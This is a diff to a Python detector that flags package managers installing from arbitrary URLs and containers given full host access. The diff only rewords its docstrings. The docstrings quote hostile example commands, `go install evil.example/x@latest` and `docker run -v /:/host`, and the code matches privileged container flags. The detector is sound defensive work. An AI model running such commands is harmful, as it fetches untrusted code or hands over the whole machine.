@@ -1,4 +1,4 @@
-"""Package managers that install or run what somebody's URL holds."""
+"""Package managers that install or run a package from an arbitrary URL."""
 
 from itertools import pairwise
 from urllib.parse import urlsplit
@@ -30,7 +30,7 @@ USUAL_HOSTS = frozenset(
     | {"download.pytorch.org", "proxy.golang.org", "deno.land", "jsr.io"}
     | {"repo.anaconda.com"}
 )
-"""The registries that the programs ask anyway; over TLS alone."""
+"""The registries that the programs use by default; only over TLS."""
 _THIS_MACHINE = frozenset({"localhost", "127.0.0.1", "::1"})
 _FETCHES = frozenset(
     {
@@ -78,13 +78,13 @@ def _is_foreign(text: str) -> bool:
 
 
 def _is_usual(url: str) -> bool:
-    """Whether a URL is of a usual registry, by its host alone: what its name begins with says nothing."""
+    """Whether the host of a URL is exactly that of a usual registry."""
     try:
         parts = urlsplit(url)
     except ValueError:
         return False
     if "\\" in url:
-        # Some read what stands before it as the host, others what stands behind.
+        # Some programs take the text before it for the host, others the text behind it.
         return False
     if parts.hostname in _THIS_MACHINE:
         return parts.scheme in {"http", "https"}
@@ -92,7 +92,7 @@ def _is_usual(url: str) -> bool:
 
 
 def install_go(call: Call, _scene: Scene) -> str | None:
-    """`go install evil.example/x@latest`: a module of a host that is none of the usual."""
+    """`go install evil.example/x@latest`: a module from an unusual host."""
     texts = call.texts
     if not {"install", "run", "get"} & {*texts[:1]}:
         return None
@@ -110,7 +110,7 @@ def module(call: Call, scene: Scene) -> str | None:
 
 
 def container(call: Call, _scene: Scene) -> str | None:
-    """`docker run -v /:/host`: all of the machine in the hands of whatever the image holds."""
+    """`docker run -v /:/host`: the image's programs get the whole machine."""
     texts = call.texts
     if "--privileged" in texts and ("--pid=host" in texts or ("--pid", "host") in pairwise(texts)):
         return "hands the whole machine to a container"
